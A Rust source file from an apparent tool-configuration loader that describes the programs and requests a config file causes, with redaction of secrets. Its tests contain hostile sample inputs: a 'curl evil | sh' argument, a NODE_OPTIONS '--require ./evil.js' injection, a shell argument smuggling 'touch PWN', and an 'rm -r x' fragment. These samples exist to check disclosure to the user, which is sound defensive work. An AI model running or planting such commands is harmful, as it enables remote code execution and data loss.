//! Actions of a configuration file: the programs that it starts and the requests that it sends.

use std::fmt;
use std::path::{Path, PathBuf};

use pegboard_core::fingerprint::Fingerprint;
use pegboard_core::settings::openapi::OpenApiSettings;
use serde_json::{Map, Value as Json};

use super::FileOrigin;
use super::setting_effect::{SettingEffect, effect_of_entry_setting, effect_of_root_setting};
use crate::inventory::command_line;
use crate::read::{EnvFile, field_names};
use crate::redact::redact_value;
use crate::section::EntrySection;
use crate::settings::{McpServerSettings, RestToolSettings};
use crate::source::SourceText;
use crate::to_json::to_json;
use crate::tree::{Node, Span, Value};
use crate::variables::{file_references, read_limited, value_references};

/// Toolbox of the sections at the root.
const DEFAULT_TOOLBOX: &str = "default";
/// One thing that a file causes: a program that is started, or requests that are sent.
///
/// ```
/// # let folder = tempfile::tempdir()?;
/// # let path = folder.path().join("pegboard.yaml");
/// std::fs::write(&path, "mcpServers: {notes: {command: notes-server, env: {KEY: s3}, toolsDenied: [drop]}}")?;
/// let configuration = pegboard_config::load(&path, &|_| None)?;
/// let action = &configuration.actions[0];
/// assert_eq!(action.target.to_string(), "notes");
/// assert_eq!(action.summary, "notes-server (env KEY)");
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FileAction {
    /// File that causes it, in the canonical form of its directory. Links are kept: relative paths in a linked
    /// file start at the link.
    pub file: PathBuf,
    /// The way in which the file was found.
    pub origin: FileOrigin,
    /// The part of the file.
    pub target: ActionTarget,
    /// Kind of action.
    pub kind: ActionKind,
    /// Description without secrets: the command line, or the URL.
    pub summary: String,
    /// The same in full, as the file has it, for the user who decides. Its author may have put a program
    /// where a secret is expected. It has no values of variables.
    pub as_written: String,
    /// Digest of everything that decides what is started or sent.
    pub digest: String,
    /// `true` if it has headers, credentials or variables, which its requests would carry.
    pub sends_secrets: bool,
}

/// Kind of an action.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ActionKind {
    /// A program is started.
    Program,
    /// Requests are sent, possibly with secrets.
    Request,
    /// Chains and agents, which use other tools.
    Composition,
    /// Settings of access are changed.
    Access,
}

/// The part of a file that causes an action.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum ActionTarget {
    /// A server, service or tool.
    Entry {
        /// Toolbox of the entry.
        toolbox: String,
        /// Section of the entry.
        section: EntrySection,
        /// Name of the entry.
        name: String,
    },
    /// A model provider.
    ModelProvider(String),
    /// The collector of traces.
    Telemetry,
    /// All chains and agents.
    Composition,
    /// All settings of access.
    Access,
}

impl ActionTarget {
    /// Returns the target for an entry.
    pub(crate) fn entry(toolbox: &str, section: EntrySection, name: &str) -> Self {
        Self::Entry { toolbox: toolbox.to_owned(), section, name: name.to_owned() }
    }
}

impl ActionTarget {
    /// Returns the section and name. The toolbox does not matter, and may be chosen on the command line.
    fn identity(&self) -> [&str; 2] {
        match self {
            Self::Entry { section, name, .. } => [section.key(), name],
            Self::ModelProvider(name) => ["providers", name],
            Self::Telemetry => ["telemetry", ""],
            Self::Composition => ["chains and agents", ""],
            Self::Access => ["access", ""],
        }
    }
}

/// Shows the name that commands accept.
impl fmt::Display for ActionTarget {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Entry { toolbox, name, .. } if toolbox == DEFAULT_TOOLBOX => f.write_str(name),
            Self::Entry { toolbox, name, .. } => write!(f, "{toolbox}/{name}"),
            Self::ModelProvider(name) => write!(f, "provider {name}"),
            Self::Telemetry => f.write_str("telemetry"),
            Self::Composition => f.write_str("chains and agents"),
            Self::Access => f.write_str("access"),
        }
    }
}

/// The actions of one file, before its env files are known.
#[derive(Default)]
pub(crate) struct FileActions(Vec<ActionDraft>);

/// An action before its env file is known.
struct ActionDraft {
    action: FileAction,
    /// Location of the name of the env file.
    env_file: Option<Span>,
    switch: EntrySwitch,
}

/// State of an entry in its file.
#[derive(Clone, Copy, PartialEq, Eq)]
enum EntrySwitch {
    Enabled,
    /// The file disables it. A source above the file may enable it again.
    Disabled,
}

impl FileActions {
    /// Adds the actions of another file.
    pub(crate) fn extend(&mut self, others: Self) {
        self.0.extend(others.0);
    }

    /// Returns the actions, without those of entries that are disabled in the merged sources, too. The contents of env
    /// files decide on the environment of a program.
    pub(crate) fn finish(self, env_files: &[EnvFile], merged: &Node) -> Vec<FileAction> {
        let is_used = |draft: &ActionDraft| {
            draft.switch == EntrySwitch::Enabled || is_enabled_in(merged, &draft.action)
        };
        let finish = |ActionDraft { mut action, env_file, .. }: ActionDraft| {
            if let Some(file) = env_files.iter().find(|file| Some(file.span) == env_file) {
                let mut fingerprint = Fingerprint::default();
                fingerprint.add_all([&action.digest, &file.digest]);
                action.digest = fingerprint.finish();
                action.summary += &env_file_variables(file, Disclosure::Redacted);
                action.as_written += &env_file_variables(file, Disclosure::AsWritten);
            }
            action
        };
        self.0.into_iter().filter(is_used).map(finish).collect()
    }
}

/// Returns the variables of an env file for the user who decides: a variable such as `PATH` may choose the program.
fn env_file_variables(file: &EnvFile, disclosure: Disclosure) -> String {
    let shown = |(name, value): &(String, String)| match disclosure {
        Disclosure::Redacted => name.clone(),
        Disclosure::AsWritten => format!("{name}={}", quoted_word(value)),
    };
    let variables: Vec<String> = file.variables.iter().map(shown).collect();
    if variables.is_empty() { String::new() } else { format!(", which sets {}", variables.join(", ")) }
}

/// Returns `true` if the merged sources enable the entry of an action.
fn is_enabled_in(merged: &Node, action: &FileAction) -> bool {
    let ActionTarget::Entry { toolbox, section, name } = &action.target else { return true };
    // Entries at the root are those of the default toolbox.
    let root = (toolbox == DEFAULT_TOOLBOX).then_some(merged);
    let toolbox = merged.get("toolboxes").and_then(|toolboxes| toolboxes.get(toolbox));
    let entries = root.into_iter().chain(toolbox).filter_map(|parent| parent.get(section.key())?.get(name));
    entries.map(to_json).any(|entry| !is_disabled(&entry))
}

/// Returns `true` if an entry is disabled where it is written.
fn is_disabled(entry: &Json) -> bool {
    entry["enabled"] == Json::Bool(false) || entry["disabled"] == Json::Bool(true)
}

/// Lists the actions of a file in the native format, in file order.
pub(crate) fn actions_of(root: &Node, text: &SourceText, origin: FileOrigin) -> FileActions {
    let mut builder = ActionBuilder {
        file: file_key(&text.path),
        folder: text.folder.clone(),
        origin,
        actions: FileActions::default(),
    };
    builder.add_entries(root, DEFAULT_TOOLBOX);
    for toolbox in root.get("toolboxes").and_then(Node::entries).unwrap_or_default() {
        builder.add_entries(&toolbox.value, &toolbox.key);
    }
    for provider in root.get("providers").and_then(Node::entries).unwrap_or_default() {
        let (value, target) = (to_json(&provider.value), ActionTarget::ModelProvider(provider.key.clone()));
        let url = ["baseUrl", "type"].iter().find_map(|key| value[*key].as_str()).unwrap_or("default URL");
        let summary = shown(&redact_value(&Json::from(url), &["baseUrl"]));
        let summary = with_list(summary, "sends", &sent(&value, Disclosure::Redacted));
        let as_written = with_list(url.to_owned(), "sends", &sent(&value, Disclosure::AsWritten));
        builder.add((target, ActionKind::Request), (summary, as_written), &value);
    }
    if let Some(endpoint) = root.get("telemetry").and_then(|telemetry| telemetry.get("otlpEndpoint")) {
        let value = to_json(endpoint);
        let summary = shown(&redact_value(&value, &["url"]));
        let described = (summary, shown(&value));
        builder.add((ActionTarget::Telemetry, ActionKind::Request), described, &value);
    }
    builder.add_composition(root);
    builder.add_access(root);
    builder.actions
}

/// Returns the path that identifies a file: absolute, with links resolved in its directory but not in its name.
pub(crate) fn file_key(path: &Path) -> PathBuf {
    let path = std::path::absolute(path).unwrap_or_else(|_| path.to_owned());
    match (path.parent().map(Path::canonicalize), path.file_name()) {
        (Some(Ok(folder)), Some(name)) => folder.join(name),
        _ => path,
    }
}

struct ActionBuilder {
    file: PathBuf,
    /// Directory that paths in the file are relative to.
    folder: PathBuf,
    origin: FileOrigin,
    actions: FileActions,
}

impl ActionBuilder {
    fn add_entries(&mut self, parent: &Node, toolbox: &str) {
        let entries =
            |section: EntrySection| parent.get(section.key()).and_then(Node::entries).unwrap_or_default();
        for entry in entries(EntrySection::Servers) {
            let value = to_json(&entry.value);
            let env_file = entry.value.get("envFile").map(|file| file.span);
            let (kind, summary) = describe_server(&value, Disclosure::Redacted);
            let (_, as_written) = describe_server(&value, Disclosure::AsWritten);
            let described = (summary, as_written + &self.program_files(&value));
            let target = (ActionTarget::entry(toolbox, EntrySection::Servers, &entry.key), kind);
            self.add_entry(target, described, (&value, field_names::<McpServerSettings>()), env_file);
        }
        for entry in entries(EntrySection::OpenApiServices) {
            let value = to_json(&entry.value);
            let target = (
                ActionTarget::entry(toolbox, EntrySection::OpenApiServices, &entry.key),
                ActionKind::Request,
            );
            let describe = |disclosure| describe_request(&value, &["baseUrl", "spec"], disclosure);
            let described = (describe(Disclosure::Redacted), describe(Disclosure::AsWritten));
            self.add_entry(target, described, (&value, field_names::<OpenApiSettings>()), None);
        }
        for entry in entries(EntrySection::RestTools) {
            let value = to_json(&entry.value);
            let target =
                (ActionTarget::entry(toolbox, EntrySection::RestTools, &entry.key), ActionKind::Request);
            let method = value["method"].as_str().unwrap_or("GET").to_uppercase();
            let describe =
                |disclosure| format!("{method} {}", describe_request(&value, &["url"], disclosure));
            let described = (describe(Disclosure::Redacted), describe(Disclosure::AsWritten));
            self.add_entry(target, described, (&value, field_names::<RestToolSettings>()), None);
        }
    }

    /// Adds the action of an entry, unless it changes nothing that matters.
    fn add_entry(
        &mut self,
        target: (ActionTarget, ActionKind),
        described: (String, String),
        (value, fields): (&Json, &[&str]),
        env_file: Option<Span>,
    ) {
        let switch = if is_disabled(value) { EntrySwitch::Disabled } else { EntrySwitch::Enabled };
        // A setting that an entry does not have is an error, and has no effect.
        let has_effect = |key: &str| match effect_of_entry_setting(key) {
            Some(SettingEffect::NoEffect) => false,
            Some(SettingEffect::Location | SettingEffect::Start | SettingEffect::Use) => true,
            None => fields.contains(&key),
        };
        let entries = value.as_object().into_iter().flatten();
        let mut kept: Map<String, Json> = entries
            .filter(|(key, _)| has_effect(key))
            .map(|(key, value)| (key.clone(), value.clone()))
            .collect();
        // An entry of another file may be disabled there.
        let is_switched_on = value["enabled"] == Json::Bool(true) || value["disabled"] == Json::Bool(false);
        if is_switched_on && switch == EntrySwitch::Enabled {
            kept.insert("enabled".to_owned(), Json::Bool(true));
        }
        let has_only_tools = kept.keys().all(|key| effect_of_entry_setting(key) == Some(SettingEffect::Use));
        let described = if has_only_tools {
            let settings = kept.iter().map(|(key, value)| format!("{key} {value}"));
            (kept.keys().cloned().collect::<Vec<_>>().join(", "), settings.collect::<Vec<_>>().join(", "))
        } else {
            described
        };
        if !kept.is_empty() {
            let action = self.action(target, described, &Json::Object(kept));
            self.actions.0.push(ActionDraft { action, env_file, switch });
        }
    }

    /// Adds chains and agents as one action. They run nothing but tools and models of the configuration, so
    /// their contents do not matter.
    fn add_composition(&mut self, root: &Node) {
        let toolboxes = root.get("toolboxes").and_then(Node::entries).unwrap_or_default();
        let parents = || std::iter::once(root).chain(toolboxes.iter().map(|toolbox| &toolbox.value));
        let mut names: Vec<String> = Vec::new();
        for chains in parents().filter_map(|parent| parent.get("chains")) {
            names.extend(chains.entries().unwrap_or_default().iter().map(|chain| chain.key.clone()));
        }
        for agents in parents().filter_map(|parent| parent.get("agents")) {
            match &agents.value {
                Value::List(items) => names.extend(items.iter().map(|item| shown(&to_json(item)))),
                Value::Text(name) => names.push(name.clone()),
                Value::Null | Value::Bool(_) | Value::Number(_) | Value::Map(_) => {}
            }
        }
        if !names.is_empty() {
            let target = (ActionTarget::Composition, ActionKind::Composition);
            let names = names.join(", ");
            self.add(target, (names.clone(), names), &Json::Null);
        }
    }

    /// Adds the contents of the files that a value refers to: they decide what is started. A file that cannot be read
    /// is not an empty one.
    fn add_files(&self, value: &Json, fingerprint: &mut Fingerprint) {
        for path in deciding_texts(value).into_iter().flat_map(file_references) {
            match read_limited(&self.folder.join(path)) {
                Ok(content) => {
                    fingerprint.add("file");
                    fingerprint.add(content);
                }
                Err(_) => fingerprint.add("no file"),
            }
        }
    }

    /// Describes the files of the project that a command line refers to, with their contents. Files elsewhere are those
    /// of the user, and may be secret.
    fn program_files(&self, server: &Json) -> String {
        let words = command_line(server);
        let mut paths: Vec<&str> = words.iter().flat_map(|word| file_references(word)).collect();
        paths.dedup();
        let is_inside = |path: &Path| match (path.canonicalize(), self.folder.canonicalize()) {
            (Ok(path), Ok(folder)) => path.starts_with(folder),
            _ => false,
        };
        let describe = |path: &str| {
            let file = self.folder.join(path);
            match read_limited(&file) {
                Ok(content) if is_inside(&file) => {
                    let content = String::from_utf8_lossy(&content);
                    Some(format!("{path} contains {}", quoted_word(content.trim_end())))
                }
                Ok(_) => None,
                Err(_) => Some(format!("{path} cannot be read")),
            }
        };
        with_list(String::new(), "where", &paths.into_iter().filter_map(describe).collect::<Vec<_>>())
    }

    /// Adds the settings of access as one action.
    fn add_access(&mut self, root: &Node) {
        // Settings under `defaults` have the same effect as at the root.
        let entries = |node: &Node| node.entries().unwrap_or_default().to_vec();
        let defaults = root.get("defaults").map(entries).unwrap_or_default();
        let settings: Map<String, Json> = defaults
            .into_iter()
            .chain(entries(root))
            .filter(|entry| effect_of_root_setting(&entry.key) == Some(SettingEffect::Use))
            .map(|entry| (entry.key.clone(), to_json(&entry.value)))
            .collect();
        if !settings.is_empty() {
            let shown = settings.iter().map(|(key, value)| format!("{key} {value}")).collect::<Vec<_>>();
            let target = (ActionTarget::Access, ActionKind::Access);
            let shown = shown.join(", ");
            self.add(target, (shown.clone(), shown), &Json::Object(settings));
        }
    }

    /// Adds the action of a part that has no switch.
    fn add(&mut self, target: (ActionTarget, ActionKind), described: (String, String), value: &Json) {
        let action = self.action(target, described, value);
        self.actions.0.push(ActionDraft { action, env_file: None, switch: EntrySwitch::Enabled });
    }

    fn action(
        &self,
        (target, kind): (ActionTarget, ActionKind),
        (summary, as_written): (String, String),
        value: &Json,
    ) -> FileAction {
        let mut fingerprint = Fingerprint::default();
        fingerprint.add_all(target.identity());
        fingerprint.add(canonical(value));
        self.add_files(value, &mut fingerprint);
        let (file, origin, digest) = (self.file.clone(), self.origin, fingerprint.finish());
        let sends_secrets = has_secrets(value);
        FileAction { file, origin, target, kind, summary, as_written, digest, sends_secrets }
    }
}

/// Returns `true` if a value has headers, credentials, or variables other than the parameters of a tool.
fn has_secrets(value: &Json) -> bool {
    let has_credentials = ["headers", "credentials", "apiKey"].iter().any(|key| !value[*key].is_null());
    let text = value.to_string();
    has_credentials || text.split("${").skip(1).any(|variable| !variable.starts_with("parameters."))
}

/// Returns the texts in the settings of an entry that decide what happens. Those that are only sent, to a place that is
/// known, are secrets of the user and may change.
fn deciding_texts(settings: &Json) -> Vec<&str> {
    let Json::Object(entries) = settings else { return texts(settings) };
    entries
        .iter()
        .flat_map(|(key, value)| match (key.as_str(), value) {
            ("headers" | "apiKey", _) => Vec::new(),
            ("credentials", Json::Object(schemes)) => {
                schemes.values().flat_map(|scheme| texts(&scheme["tokenUrl"])).collect()
            }
            (_, value) => texts(value),
        })
        .collect()
}

/// Returns all texts in a value. Keys are expanded, too.
fn texts(value: &Json) -> Vec<&str> {
    match value {
        Json::String(text) => vec![text],
        Json::Array(items) => items.iter().flat_map(texts).collect(),
        Json::Object(entries) => {
            entries.iter().flat_map(|(key, value)| [vec![key.as_str()], texts(value)].concat()).collect()
        }
        Json::Null | Json::Bool(_) | Json::Number(_) => Vec::new(),
    }
}

/// Returns the text of a value with sorted keys, so that the order in the file does not matter.
fn canonical(value: &Json) -> String {
    match value {
        Json::Object(entries) => {
            let mut entries: Vec<(&String, &Json)> = entries.iter().collect();
            entries.sort_by_key(|(key, _)| *key);
            let entries = entries
                .iter()
                .map(|(key, value)| format!("{}:{}", Json::from(key.as_str()), canonical(value)));
            format!("{{{}}}", entries.collect::<Vec<_>>().join(","))
        }
        Json::Array(items) => format!("[{}]", items.iter().map(canonical).collect::<Vec<_>>().join(",")),
        Json::Null | Json::Bool(_) | Json::Number(_) | Json::String(_) => value.to_string(),
    }
}

/// Treatment of literal texts in a description.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Disclosure {
    /// Those that may be secrets are left out.
    Redacted,
    /// They are shown as the file has them.
    AsWritten,
}

/// Returns the kind of a server and its command line or URL. An entry may change only a part of another.
fn describe_server(value: &Json, disclosure: Disclosure) -> (ActionKind, String) {
    let words = match disclosure {
        Disclosure::Redacted => command_line(&redact_value(value, &[EntrySection::Servers.key()])),
        Disclosure::AsWritten => command_line(value),
    };
    let has = |key: &str| !value[key].is_null();
    let is_program = has("command") || value["type"] == "stdio";
    if !is_program && (has("url") || has("headers")) {
        return (ActionKind::Request, describe_request(value, &["url"], disclosure));
    }
    let mut summary = quoted(&words);
    if let Some(folder) = value["cwd"].as_str() {
        summary = format!("{summary} (in {folder})");
    }
    let mut variables: Vec<String> =
        ["env", "environment"].iter().flat_map(|key| named_values(&value[*key], '=', disclosure)).collect();
    if let Some(file) = value["envFile"].as_str() {
        variables.push(format!("from {file}"));
    }
    variables.extend(value["passEnv"].as_array().into_iter().flatten().map(shown));
    if !variables.is_empty() {
        summary = format!("{summary} (env {})", variables.join(", "));
    }
    let is_start = has("command") || has("args") || !variables.is_empty() || has("cwd");
    (ActionKind::Program, if is_start { summary.trim().to_owned() } else { "enabled".to_owned() })
}

/// Returns the URL of an entry and the names of the credentials that are sent there.
fn describe_request(value: &Json, urls: &[&str], disclosure: Disclosure) -> String {
    let redacted = redact_value(value, &[]);
    let shown = match disclosure {
        Disclosure::Redacted => &redacted,
        Disclosure::AsWritten => value,
    };
    let url = urls.iter().find_map(|key| shown[*key].as_str()).unwrap_or_default().to_owned();
    with_list(url, "sends", &sent(value, disclosure)).trim().to_owned()
}

/// Returns the headers and credentials that are sent.
fn sent(value: &Json, disclosure: Disclosure) -> Vec<String> {
    let key = match (disclosure, value["apiKey"].as_str()) {
        (_, None) => Vec::new(),
        (Disclosure::AsWritten, Some(key)) => vec![format!("apiKey: {key}")],
        (Disclosure::Redacted, Some(_)) => vec![with_references("apiKey", &value["apiKey"])],
    };
    let named = ["headers", "credentials"].iter();
    key.into_iter().chain(named.flat_map(|key| named_values(&value[*key], ':', disclosure))).collect()
}

/// Returns a name with the references in its value, which say where a secret comes from and are none themselves.
fn with_references(name: &str, value: &Json) -> String {
    let references = texts(value).into_iter().flat_map(value_references);
    let mut sources: Vec<String> = references.map(|reference| reference.source()).collect();
    sources.dedup();
    if sources.is_empty() { name.to_owned() } else { format!("{name} from {}", sources.join(" and ")) }
}

/// Returns the names in an object, with their values if those are disclosed.
fn named_values(value: &Json, separator: char, disclosure: Disclosure) -> Vec<String> {
    let entry = |(name, value): (&String, &Json)| match (disclosure, separator) {
        (Disclosure::Redacted, _) => with_references(name, value),
        (Disclosure::AsWritten, '=') => format!("{name}={}", quoted_word(&shown(value))),
        (Disclosure::AsWritten, _) => format!("{name}{separator} {}", shown(value)),
    };
    value.as_object().into_iter().flatten().map(entry).collect()
}

/// Appends a list in brackets, unless it is empty.
fn with_list(text: String, verb: &str, items: &[String]) -> String {
    if items.is_empty() { text } else { format!("{text} ({verb} {})", items.join(", ")) }
}

/// Returns a text without quotes, and any other value as JSON.
fn shown(value: &Json) -> String {
    value.as_str().map_or_else(|| value.to_string(), str::to_owned)
}

/// Joins the words of a command line. Words with spaces are quoted, so that they can be told apart.
fn quoted(words: &[String]) -> String {
    words.iter().map(|word| quoted_word(word)).collect::<Vec<_>>().join(" ")
}

fn quoted_word(word: &str) -> String {
    let is_plain = !word.is_empty() && !word.contains(|each: char| each.is_whitespace() || each == '\'');
    if is_plain { word.to_owned() } else { format!("'{}'", word.replace('\'', r"'\''")) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_program_and_setting_of_access_is_shown() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("pegboard.yaml");
        let cases = [
            // A URL does not hide the program that runs.
            (
                "mcpServers: {p: {type: stdio, command: ev, args: [boo], url: 'https://a.example'}}",
                "p: ev boo",
            ),
            ("mcpServers: {p: {command: ev, url: 'https://a.example'}}", "p: ev"),
            ("mcpServers: {p: {url: 'https://a.example'}}", "p: https://a.example"),
            // The program is that of another file.
            ("mcpServers: {p: {toolsDenied: []}}", "p: toolsDenied"),
            ("allowedOrigins: ['http://evil.example']", "access: allowedOrigins [\"http://evil.example\"]"),
            ("defaults: {tracePayloads: true}", "access: tracePayloads true"),
            ("start: eager", ""),
            ("mcpServers: {p: {toolFilters: ['*'], cacheScope: global}}", "p: toolFilters, cacheScope"),
            ("openapiSpecs: {p: {exclude: []}}", "p: exclude"),
            ("mcpServers: {p: {idleStop: 1m}}", ""),
        ];
        for (text, expected) in cases {
            std::fs::write(&path, text).unwrap();
            let configuration = crate::load(&path, &|_| None).unwrap();
            let shown = configuration.actions.iter().map(|it| format!("{}: {}", it.target, it.summary));
            assert_eq!(shown.collect::<Vec<_>>().join("; "), expected, "{text}");
        }
    }

    #[test]
    fn the_contents_of_files_count_unless_they_are_only_sent() {
        let folder = tempfile::tempdir().unwrap();
        let at = |name: &str| folder.path().join(name);
        let server = |settings: &str| format!("mcpServers: {{p: {{{settings}}}}}");
        let service =
            |settings: &str| format!("openapiSpecs: {{p: {{spec: 'https://a.example', {settings}}}}}");
        for (text, counts) in [
            (server("command: '${file:f}'"), true),
            (server("command: a, args: ['${file:f}']"), true),
            (server("command: a, env: {K: '${file:f}'}"), true),
            (server("command: a, env: {apiKey: '${file:f}'}"), true),
            (server("command: '${UNSET:-${file:f}}'"), true),
            (server("command: '$${file:f}'"), false),
            (server("url: 'https://${file:f}'"), true),
            (server("url: 'https://a.example', headers: {K: '${file:f}'}"), false),
            (service("serverVariables: {apiKey: '${file:f}'}"), true),
            (service("credentials: {k: {tokenUrl: '${file:f}'}}"), true),
            (service("credentials: {k: {value: '${file:f}'}}"), false),
            ("telemetry: {otlpEndpoint: 'https://${file:f}'}".to_owned(), true),
            ("providers: {p: {type: anthropic, baseUrl: 'https://${file:f}'}}".to_owned(), true),
            ("providers: {p: {type: anthropic, apiKey: '${file:f}'}}".to_owned(), false),
        ] {
            std::fs::write(at("pegboard.yaml"), &text).unwrap();
            // Without the file the configuration may be invalid.
            let digest = || {
                let text = SourceText::read(&at("pegboard.yaml")).unwrap();
                let tree = crate::tree::parse(&text.body, crate::source::ConfigFormat::Yaml);
                let root = tree.ok().flatten().unwrap().root;
                actions_of(&root, &text, FileOrigin::Project).finish(&[], &root)[0].digest.clone()
            };
            let digest_with = |content: &str| {
                std::fs::write(at("f"), content).unwrap();
                digest()
            };
            assert_eq!(digest_with("one") != digest_with("two"), counts, "{text}");
            let empty = digest_with("");
            std::fs::remove_file(at("f")).unwrap();
            assert_eq!(digest() != empty, counts, "{text}");
        }
    }

    #[test]
    fn the_path_of_a_file_ends_where_its_reference_ends() {
        let folder = tempfile::tempdir().unwrap();
        let at = |name: &str| folder.path().join(name);
        std::fs::write(at("pegboard.yaml"), "mcpServers: {p: {command: '${file:a${b}c}'}}").unwrap();
        let digest_with = |content: &str| {
            std::fs::write(at("a${b}c"), content).unwrap();
            let configuration = crate::load(&at("pegboard.yaml"), &|_| None).unwrap();
            assert!(configuration.watched.contains(&at("a${b}c")), "{:?}", configuration.watched);
            configuration.actions[0].digest.clone()
        };
        assert_ne!(digest_with("./one"), digest_with("./two"));
    }

    #[test]
    fn a_message_names_the_sources_of_secrets_and_no_value() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("pegboard.yaml");
        for (text, expected) in [
            (
                "mcpServers: {p: {url: 'https://a.example', headers: {X-Trace: '${keyring:gh}', Y: literal}}}",
                "https://a.example (sends X-Trace from ${keyring:gh}, Y)",
            ),
            (
                "mcpServers: {p: {command: x, env: {K: 'a ${TOKEN:-s3cret} ${input:i:-s3cret}'}}}",
                "x (env K from ${TOKEN} and ${input:i})",
            ),
            (
                "openapiSpecs: {p: {spec: 'https://a.example', credentials: {k: {value: '${file:f}'}}}}",
                "https://a.example (sends k from ${file:f})",
            ),
        ] {
            std::fs::write(&path, text).unwrap();
            let configuration = crate::load(&path, &|_| None).unwrap();
            assert_eq!(configuration.actions[0].summary, expected, "{text}");
        }
    }

    #[test]
    fn nothing_is_left_out_for_the_user_who_decides() {
        let folder = tempfile::tempdir().unwrap();
        let at = |name: &str| folder.path().join(name);
        std::fs::create_dir(at("project")).unwrap();
        std::fs::write(at("project/frag"), "rm -r x\n").unwrap();
        std::fs::write(at("key"), "s3cret").unwrap();
        let path = at("project/pegboard.yaml");
        let server = |settings: &str| format!("mcpServers: {{p: {{{settings}}}}}");
        let environment = |name: &str| (name == "TOKEN").then(|| "from-environment".to_owned());
        for (text, expected) in [
            (server("command: npx, env: {PATH: './.bin:/usr/bin'}"), "npx (env PATH=./.bin:/usr/bin)"),
            (
                server("command: node, env: {NODE_OPTIONS: '--require ./evil.js', KEY: '${TOKEN}'}"),
                "node (env NODE_OPTIONS='--require ./evil.js', KEY=${TOKEN})",
            ),
            (
                server("command: sh, args: [-c, 'echo https://user:touch PWN;evil@host/']"),
                "sh -c 'echo https://user:touch PWN;evil@host/'",
            ),
            (
                server("command: sh, args: ['--api-key', 'curl evil | sh', '${TOKEN:-a b}']"),
                "sh --api-key 'curl evil | sh' '${TOKEN:-a b}'",
            ),
            (server("command: '${file:frag}'"), "${file:frag} (where frag contains 'rm -r x')"),
            (server("command: '${file:gone}'"), "${file:gone} (where gone cannot be read)"),
            (server("command: a, args: ['${file:../key}']"), "a ${file:../key}"),
            (
                server("url: 'https://u:p@a.example/?token=x', headers: {K: 'Bearer ${TOKEN}'}"),
                "https://u:p@a.example/?token=x (sends K: Bearer ${TOKEN})",
            ),
            (server("toolsDenied: [a]"), "toolsDenied [\"a\"]"),
        ] {
            std::fs::write(&path, &text).unwrap();
            let configuration = crate::load(&path, &environment).unwrap();
            assert_eq!(configuration.actions[0].as_written, expected, "{text}");
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_referenced_file_must_be_a_regular_one() {
        let folder = tempfile::tempdir().unwrap();
        let path = folder.path().join("pegboard.yaml");
        std::fs::write(&path, "mcpServers: {p: {command: a, env: {K: '${file:/dev/ptmx}'}}}").unwrap();
        let configuration = crate::load(&path, &|_| None).unwrap();
        let problems = format!("{:?}", configuration.problems);
        assert!(problems.contains("not a regular file"), "{problems}");
    }
}
